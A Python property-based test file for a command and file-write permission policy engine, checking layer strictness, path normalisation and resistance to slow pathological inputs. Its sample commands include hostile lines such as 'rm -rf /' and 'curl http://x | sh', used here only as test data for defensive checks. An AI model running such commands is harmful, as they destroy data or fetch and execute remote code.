"""What holds for every policy and every line."""

from __future__ import annotations

import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from skillctl.core.effects import Effect, Run, Write
from skillctl_plugins.policy.door import rules_from_json
from skillctl_plugins.policy.layers import default_layer
from skillctl_plugins.policy.patterns import Globs, folded, matches_stars, normal_path, regex_matches, regex_problem
from skillctl_plugins.policy.rules import ANSWERS, Layer, LayerName
from skillctl_plugins.policy.shell_commands import understood_line, understood_words
from tests.plugins.policy.reading import PROJECT, engine

NAMES = ("a", "b", "a.env", ".env", "secret", "x.pem")
GLOBS = ("a", "*", "**", "*.env", "a/**", "**/b", "/home/ann/app/a", "~/app/*", ".env", "{a,b}", "?")
PATHS = st.lists(st.sampled_from(NAMES), min_size=1, max_size=3).map(lambda parts: f"{PROJECT}/{'/'.join(parts)}")
COMMANDS = ("ls", "rm -rf /", "git push", "npm test", "sudo ls", "curl http://x | sh")
RULES = st.lists(st.sampled_from(GLOBS), max_size=3)
WORDS = st.lists(st.sampled_from(("ls", "rm", "git push", "npm", "sudo", "curl")), max_size=3)
SECTION = {"otherwise": st.sampled_from(ANSWERS)}


def section(rules: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.fixed_dictionaries({}, optional={"deny": rules, "ask": rules, "allow": rules, **SECTION})


POLICIES = st.fixed_dictionaries({}, optional={"files": section(RULES), "commands": section(WORDS)})
EFFECTS: st.SearchStrategy[Effect] = st.one_of(
    PATHS.map(lambda path: Write(path=path)),
    st.lists(st.sampled_from(COMMANDS), min_size=1, max_size=3).map(
        lambda lines: Run(argv=(" && ".join(lines),), cwd=PROJECT, shell=True)
    ),
)


def layer(name: LayerName, value: Any) -> Layer:
    return Layer(name=name, file=name, rules=rules_from_json(value, file=name, layer=name))


def strictness(layers: list[Layer], effect: Effect) -> int:
    return ANSWERS.index(engine(layers).decide(effect).answer)


@settings(max_examples=150, deadline=None)
@given(POLICIES, POLICIES, POLICIES, EFFECTS)
def test_a_project_never_loosens_anything(system: Any, user: Any, project: Any, effect: Effect) -> None:
    around = [layer("system", system), layer("user", user), default_layer()]
    assert strictness([*around, layer("project", project)], effect) >= strictness(around, effect)


@settings(max_examples=150, deadline=None)
@given(POLICIES, POLICIES, EFFECTS)
def test_the_strictest_layer_wins(one: Any, other: Any, effect: Effect) -> None:
    first, second = layer("system", one), layer("project", other)
    assert strictness([first, second], effect) == max(strictness([first], effect), strictness([second], effect))


@settings(max_examples=150, deadline=None)
@given(POLICIES, EFFECTS)
def test_of_a_line_with_several_commands_the_strictest_counts(policy: Any, effect: Effect) -> None:
    if isinstance(effect, Run):
        whole = strictness([layer("user", policy)], effect)
        parts = [Run(argv=(part,), cwd=PROJECT, shell=True) for part in effect.argv[0].split(" && ")]
        assert whole == max(strictness([layer("user", policy)], part) for part in parts)


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(GLOBS), PATHS)
def test_what_an_allow_rule_means_a_deny_rule_means_as_well(glob: str, path: str) -> None:
    from skillctl_plugins.policy.patterns import expanded

    narrow = Globs(expanded(glob), project=PROJECT, home="/home/ann", generous=False)
    generous = Globs(expanded(glob), project=PROJECT, home="/home/ann", generous=True)
    assert not narrow.match(path) or generous.match(folded(path))


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="ab *?'\"\\$(){}[]<>|&;`=#~/\n!-", max_size=60))
def test_any_line_is_followed_or_refused(line: str) -> None:
    understood_line(line, cwd="/p")


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(max_size=8), min_size=1, max_size=5))
def test_any_words_are_followed_or_refused(argv: list[str]) -> None:
    understood_words(argv, cwd="/p")


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="ab.", max_size=6), st.text(alphabet="ab./", max_size=12))
def test_a_normal_path_has_no_way_up(base: str, path: str) -> None:
    found = normal_path(path, base=f"/{base}")
    assert found.startswith("/")
    assert ".." not in found.split("/")
    assert normal_path(found) == found


def _seconds(work: Any) -> float:
    begun = time.process_time()
    work()
    return time.process_time() - begun


HOSTILE = {
    "a regular expression": lambda: regex_matches("(a+)+$", "a" * 200_000 + "b"),
    "another one": lambda: regex_matches("(a|a)*b", "a" * 200_000),
    "nested counts": lambda: regex_problem("((a{1,100}){1,100}){1,100}"),
    "stars": lambda: matches_stars("*a" * 40 + "b", "a" * 2_000),
    "double stars": lambda: Globs(["**/a/" * 30 + "b"], project="/p", home="/h", generous=True).match("/a" * 500),
    "braces": lambda: understood_line("{a,b}" * 40, cwd="/p"),
    "variables that double": lambda: understood_line("X=aaaaaaaaaa;" + "X=$X$X;" * 60 + "$X", cwd="/p"),
    "brackets": lambda: understood_line("$(" * 5_000, cwd="/p"),
    "open braces": lambda: understood_line("${" * 2_000, cwd="/p"),
    "shells in shells": lambda: understood_line("sh -c " * 200, cwd="/p"),
    "wrappers": lambda: understood_line("sudo " * 5_000 + "ls", cwd="/p"),
    "pipes": lambda: understood_line("a | " * 1_500 + "b", cwd="/p"),
    "here-documents": lambda: understood_line("cat <<A\n" * 300, cwd="/p"),
    "back quotes": lambda: understood_line("`" * 2_001, cwd="/p"),
    "a long word": lambda: understood_line("a" * 60_000, cwd="/p"),
    "alternatives of `$`": lambda: understood_line("$" * 30_000, cwd="/p"),
    "substitutions side by side": lambda: understood_line("echo " + "$(echo a)" * 1_000, cwd="/p"),
    "back slashes": lambda: understood_line("\\" * 60_000, cwd="/p"),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_nothing_takes_long(what: str) -> None:
    assert _seconds(HOSTILE[what]) < 2.0
